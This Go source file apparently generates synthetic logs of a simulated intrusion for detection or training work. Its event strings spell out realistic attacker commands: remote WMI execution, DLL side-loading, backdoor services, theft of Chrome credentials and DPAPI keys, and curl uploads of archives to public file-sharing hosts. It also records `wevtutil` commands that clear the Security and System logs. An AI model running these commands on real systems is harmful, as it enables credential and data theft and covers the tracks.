package demo

import "time"

// toWorkstation: the same by WMI, with a second side-loaded pair.
func (in *intrusion) toWorkstation() {
	src, dst := in.ex01, in.ws041
	in.command(at(10, "02:29:40"), "ping -n 1 10.20.30.41", sys32+"ping.exe", "ping  -n 1 10.20.30.41", millis(700))
	t := at(10, "02:30:15")
	in.command(t, `copy C:\users\public\music\tr.cab \\10.20.30.41\`+drmShare, "", "", millis(900))
	src.create(t.Add(-seconds(20)), in.beacon, music+"tr.cab")
	in.wsIn = dst.logon(t.Add(millis(400)), in.adminInfra, visit{kind: 3, from: src.ip, workstation: "EX01", ntlm: true})
	dst.share(t.Add(millis(450)), in.wsIn, src.ip, "C$", `\??\C:\`)
	dst.shareFile(t.Add(millis(500)), in.wsIn, src.ip, "C$", `\??\C:\`, drmInside+"tr.cab", true)
	dst.create(t.Add(millis(550)), dst.procs.kernel, drm+"tr.cab")
	dst.shareFile(t.Add(millis(800)), in.wsIn, src.ip, "C$", `\??\C:\`, drmInside+"182.bat", true)
	dst.create(t.Add(millis(850)), dst.procs.kernel, drm+"182.bat")

	t = at(10, "02:31:02")
	tool := in.command(t, `wmic /node:10.20.30.41 process call create "cmd.exe /c c:\ProgramData\Microsoft\DRM\182.bat"`,
		sys32+`wbem\WMIC.exe`, `wmic  /node:10.20.30.41 process call create "cmd.exe /c c:\ProgramData\Microsoft\DRM\182.bat"`, seconds(3))
	src.explicit(t.Add(millis(300)), in.desk, tool, in.adminInfra, dst)
	src.connect(t.Add(millis(500)), tool, dst.ip, dst.fqdn(), 135, "epmap")
	src.connect(t.Add(millis(700)), tool, dst.ip, dst.fqdn(), 49669, "-")
	wmi := dst.logon(t.Add(millis(600)), in.adminInfra, visit{kind: 3, from: src.ip, workstation: "EX01", ntlm: true})
	in.batch(t.Add(seconds(1)), wmi)
	dst.logoff(t.Add(seconds(40)), wmi, 3)
	dst.logoff(t.Add(seconds(41)), in.wsIn, 3)
}

// batch is what 182.bat does on WS-041.
func (in *intrusion) batch(t time.Time, s *session) {
	h := in.ws041
	bat := h.start(t, s, h.procs.wmiprvse, sys32+"cmd.exe", `cmd.exe /c c:\ProgramData\Microsoft\DRM\182.bat`)
	expand := h.run(t.Add(seconds(1)), s, bat, sys32+"expand.exe",
		`expand  -f:* C:\ProgramData\Microsoft\DRM\tr.cab C:\ProgramData\Microsoft\DRM`, seconds(3))
	for i, f := range []string{"brdifxapi.exe", "brlogapi64.dll", "brdata.dat", "netcset.exe", "netcsvc.exe"} {
		h.create(t.Add(seconds(1)).Add(millis(400+300*i)), expand, drm+f)
	}
	side := h.start(t.Add(seconds(6)), s, bat, drm+"brdifxapi.exe", drm+"brdifxapi.exe")
	h.sideLoad(t.Add(seconds(6)), side, drm+"brlogapi64.dll", "Dell Inc.")
	h.web(t.Add(seconds(9)), side, "cdn-6dd0035.oxcdntech.com", "203.0.113.61")
	h.run(t.Add(seconds(12)), s, bat, drm+"netcset.exe", `c:\ProgramData\Microsoft\DRM\netcset.exe -install`, seconds(2))
	h.install(t.Add(seconds(13)), s, service{name: "Net Connection", path: drm + "netcsvc.exe"})
	setup := h.run(t.Add(seconds(16)), s, bat, drm+"netcset.exe", `c:\ProgramData\Microsoft\DRM\netcset.exe -start CE041`, seconds(3))
	h.create(t.Add(seconds(17)), setup, drm+"7C809B4866086EF7FB1AB722F94DF5AF493B80DB")
	in.stolen = h.start(t.Add(seconds(18)), h.system, h.procs.services, drm+"netcsvc.exe", drm+"netcsvc.exe")
	h.state(t.Add(seconds(18)), "Net Connection", "Net Connection", "running")
	h.exit(t.Add(seconds(20)), bat)
}

// trillClient: orders from a public repository, browser stores and their keys
// read, packed and mailed away.
func (in *intrusion) trillClient() {
	h, p := in.ws041, in.stolen
	h.web(at(10, "02:31:25"), p, "raw.githubusercontent.com", "185.199.108.133")
	h.connect(at(10, "02:41:25"), p, "185.199.108.133", "-", 443, "https")
	t := at(10, "02:41:40")
	profile := `C:\Users\user041\AppData\Local\Google\Chrome\User Data\`
	temp := `C:\Windows\Temp\browser_temp_data48213\`
	for i, f := range []string{"Local State", `Default\Login Data`, `Default\Network\Cookies`} {
		h.read(t.Add(seconds(3*i)), p, profile+f)
		h.create(t.Add(seconds(3*i)).Add(millis(500)), p, temp+base(f))
	}
	protect := `C:\Users\user041\AppData\Roaming\Microsoft\Protect\` + in.user041.sid + `\`
	for i, f := range []string{"Preferred", "b4d2c0e1-6f0a-4c53-9a1e-27d5b8f30c6e"} {
		h.read(t.Add(seconds(10+2*i)), p, protect+f)
		h.create(t.Add(seconds(10+2*i)).Add(millis(500)), p, temp+f)
	}
	tar := h.run(t.Add(seconds(16)), h.system, p, sys32+"tar.exe",
		`tar.exe -cf C:\Windows\Temp\browser_temp_data48213.tar -C C:\Windows\Temp browser_temp_data48213`, seconds(2))
	h.create(t.Add(seconds(17)), tar, `C:\Windows\Temp\browser_temp_data48213.tar`)
	h.resolve(t.Add(seconds(25)), p, "smtp.gmail.com", "::ffff:142.250.150.108;")
	h.connect(t.Add(seconds(26)), p, "142.250.150.108", "-", 587, "submission")
	h.remove(t.Add(seconds(70)), p, `C:\Windows\Temp\browser_temp_data48213.tar`)
}

// toDomainController: a look at the domain controller, from the file server,
// by an account that had only ever gone there from the administrators' desk.
func (in *intrusion) toDomainController() {
	src, dst, t := in.fs01, in.dc01, at(10, "02:52:11")
	s := in.shell.session
	shell := src.start(t, s, in.shell, sys32+"cmd.exe", `C:\Windows\system32\cmd.exe`)
	tool := src.run(t.Add(seconds(3)), s, shell, sys32+`wbem\WMIC.exe`,
		`wmic  /node:10.20.10.10 /user:corp\adm-infra /password:***** process call create "cmd.exe /c net localgroup administrators > C:\Windows\Temp\n.tmp"`, seconds(3))
	src.explicit(t.Add(seconds(3)).Add(millis(300)), s, tool, in.adminInfra, dst)
	src.connect(t.Add(seconds(3)).Add(millis(400)), tool, dst.ip, dst.fqdn(), 135, "epmap")
	src.connect(t.Add(seconds(3)).Add(millis(600)), tool, dst.ip, dst.fqdn(), 49667, "-")
	in2 := dst.logon(t.Add(seconds(3)).Add(millis(500)), in.adminInfra, visit{kind: 3, from: src.ip, workstation: "FS01", ntlm: true})
	cmd := dst.start(t.Add(seconds(4)), in2, dst.procs.wmiprvse, sys32+"cmd.exe", `cmd.exe /c net localgroup administrators > C:\Windows\Temp\n.tmp`)
	net := dst.start(t.Add(seconds(5)), in2, cmd, sys32+"net.exe", "net  localgroup administrators")
	net1 := dst.start(t.Add(seconds(5)).Add(millis(300)), in2, net, sys32+"net1.exe", `C:\Windows\system32\net1  localgroup administrators`)
	dst.groupRead(t.Add(seconds(5)).Add(millis(600)), in2, net1)
	dst.share(t.Add(seconds(9)), in2, src.ip, "ADMIN$", `\??\C:\Windows`)
	dst.shareFile(t.Add(seconds(9)).Add(millis(300)), in2, src.ip, "ADMIN$", `\??\C:\Windows`, `Temp\n.tmp`, false)
	dst.logoff(t.Add(seconds(20)), in2, 3)
	src.exit(t.Add(seconds(30)), shell)
}

// documents are the names read from the share of projects.
var documents = []string{
	`2026\tender-117\offer.pdf`, `2026\tender-117\annex-a.pdf`, `2026\tender-117\drawing-01.ddf`,
	`2026\tender-117\drawing-02.ddf`, `2026\tender-121\offer.pdf`, `2026\tender-121\pricing.pdf`,
	`2026\ministry\minutes-02-17.pdf`, `2026\ministry\minutes-03-03.pdf`, `2026\ministry\plan.pdf`,
	`2025\audit\report.pdf`, `2025\audit\annex.pdf`, `2025\network\sites.pdf`,
}

// collect: documents of a share packed under a name that hides the archive.
func (in *intrusion) collect() {
	src, dst := in.ex01, in.fs01
	t := at(10, "03:04:20")
	line := `C:\Users\Public\Music\rar.exe a -m3 -inul -ed -r -s -hpforeverthegod -ta20260201 -n*.pdf -n*.ddf c:\windows\ime\out1.tmp \\10.20.10.21\projects`
	s := dst.logon(t.Add(millis(900)), in.adminInfra, visit{kind: 3, from: src.ip, workstation: "EX01", ntlm: true})
	rar := in.command(t, line, music+"rar.exe", line, seconds(95))
	src.connect(t.Add(millis(700)), src.procs.kernel, dst.ip, dst.fqdn(), 445, "microsoft-ds")
	src.create(t.Add(seconds(2)), rar, ime+"out1.tmp")
	dst.share(t.Add(seconds(1)), s, src.ip, "projects", `\??\D:\Shares\projects`)
	for i, f := range documents {
		dst.shareFile(t.Add(seconds(3+7*i)), s, src.ip, "projects", `\??\D:\Shares\projects`, f, false)
	}
	dst.logoff(t.Add(seconds(110)), s, 3)

	t = at(10, "03:18:02")
	line = `C:\Users\Public\Music\rar.exe a -m5 C:\Windows\IME\out3.tmp C:\Users\Public\Music\temp\*.pdf`
	rar = in.command(t, line, music+"rar.exe", line, seconds(20))
	src.create(t.Add(seconds(1)), rar, ime+"out3.tmp")
}

// upload: the archives go to two public services.
func (in *intrusion) upload() {
	h := in.ex01
	steps := []struct{ clock, line, name, ip string }{
		{"03:09:44", `curl -F "file=@c:\windows\ime\out1.tmp" -k https://file.io`, "file.io", "198.51.100.24"},
		{"03:21:15", `curl -F "file=@c:\windows\ime\out3.tmp" https://api.anonfiles.com/upload`, "api.anonfiles.com", "198.51.100.77"},
	}
	for _, s := range steps {
		t := at(10, s.clock)
		p := in.command(t, s.line, sys32+"curl.exe", s.line, seconds(140))
		h.web(t.Add(millis(700)), p, s.name, s.ip)
	}
}

// cleanUp: tools and archives deleted, the backdoor's service removed, logs
// cleared on the server that all of it started from.
func (in *intrusion) cleanUp() {
	h, s := in.fs01, in.shell.session
	t := at(10, "04:02:10")
	shell := h.start(t, s, in.shell, sys32+"cmd.exe", `C:\Windows\system32\cmd.exe`)
	h.run(t.Add(seconds(3)), s, shell, sys32+"sc.exe", "sc  stop Windrive", millis(500))
	h.state(t.Add(seconds(4)), "Windrive", "Windows Drive Security", "stopped")
	h.run(t.Add(seconds(8)), s, shell, sys32+"sc.exe", "sc  delete Windrive", millis(500))
	h.registryDelete(t.Add(seconds(9)), h.procs.services, servers+"Windrive")
	for i, f := range []string{"K7AVMScn.exe", "K7AVWScn.dll", "taskhask.doc", "taskhask.dat"} {
		h.remove(t.Add(seconds(20+i)), shell, winDrive+f)
		h.remove(t.Add(seconds(25+i)), shell, drm+f)
	}
	h.exit(t.Add(seconds(40)), shell)
	h.exit(t.Add(seconds(18)), in.shell)
	in.removeStealer(at(10, "04:06:30"))
	in.clearLogs(at(10, "04:16:05"))
}

func (in *intrusion) removeStealer(t time.Time) {
	h := in.ws041
	p := h.run(t, h.system, in.stolen, drm+"netcset.exe", `C:\ProgramData\Microsoft\DRM\netcset.exe -remove`, seconds(2))
	h.state(t.Add(seconds(1)), "Net Connection", "Net Connection", "stopped")
	h.registryDelete(t.Add(seconds(1)).Add(millis(300)), h.procs.services, servers+"Net Connection")
	h.exit(t.Add(seconds(1)).Add(millis(500)), in.stolen)
	h.remove(t.Add(seconds(3)), p, drm+"netcsvc.exe")
}

func (in *intrusion) clearLogs(t time.Time) {
	h := in.ex01
	for i, f := range []string{ime + "out1.tmp", ime + "out3.tmp", music + "go4.cab", music + "tr.cab", music + "rar.exe"} {
		h.remove(t.Add(seconds(2*i)), in.beacon, f)
	}
	in.command(t.Add(seconds(40)), "wevtutil cl Security", sys32+"wevtutil.exe", "wevtutil  cl Security", millis(800))
	h.clear(t.Add(seconds(40)).Add(millis(500)), in.desk, channelSecurity)
	in.command(t.Add(seconds(58)), "wevtutil cl System", sys32+"wevtutil.exe", "wevtutil  cl System", millis(800))
	h.clear(t.Add(seconds(58)).Add(millis(500)), in.desk, channelSystem)
	h.exit(t.Add(seconds(120)), in.beacon)
	h.logoff(t.Add(seconds(130)), in.desk, 10)
}

// secondRound: two days later another backdoor, as a service again, on the
// same server and with the same account.
func (in *intrusion) secondRound() {
	src, h, t := in.ex01, in.fs01, at(12, "01:20:33")
	s := h.logon(t, in.adminInfra, visit{kind: 3, from: src.ip, workstation: "-"})
	network := `C:\ProgramData\Microsoft\Network\`
	inside := `ProgramData\Microsoft\Network\`
	h.share(t.Add(millis(300)), s, src.ip, "C$", `\??\C:\`)
	for i, f := range []string{"MsSecEs.exe", "mpclient.dll", "mpclient.dat"} {
		h.shareFile(t.Add(seconds(1+i)), s, src.ip, "C$", `\??\C:\`, inside+f, true)
		h.create(t.Add(seconds(1+i)).Add(millis(200)), h.procs.kernel, network+f)
	}
	h.share(t.Add(seconds(8)), s, src.ip, "IPC$", "")
	h.shareFile(t.Add(seconds(8)).Add(millis(200)), s, src.ip, "IPC$", "", "svcctl", true)
	h.install(t.Add(seconds(9)), s, service{name: "MsSecEsSvc", display: "MsSecEsSvc", path: network + "MsSecEs.exe"})
	p := h.start(t.Add(seconds(11)), h.system, h.procs.services, network+"MsSecEs.exe", network+"MsSecEs.exe")
	h.state(t.Add(seconds(11)), "MsSecEsSvc", "MsSecEsSvc", "running")
	h.sideLoad(t.Add(seconds(11)), p, network+"mpclient.dll", "Microsoft Corporation")
	h.web(t.Add(seconds(15)), p, "cdn-7a3d.vultr-dns.com", "203.0.113.88")
	for i := range 12 {
		h.connect(t.Add(seconds(60+i*900+h.rand.IntN(40))), p, "203.0.113.88", "-", 443, "https")
	}
	h.logoff(t.Add(seconds(30)), s, 3)
}
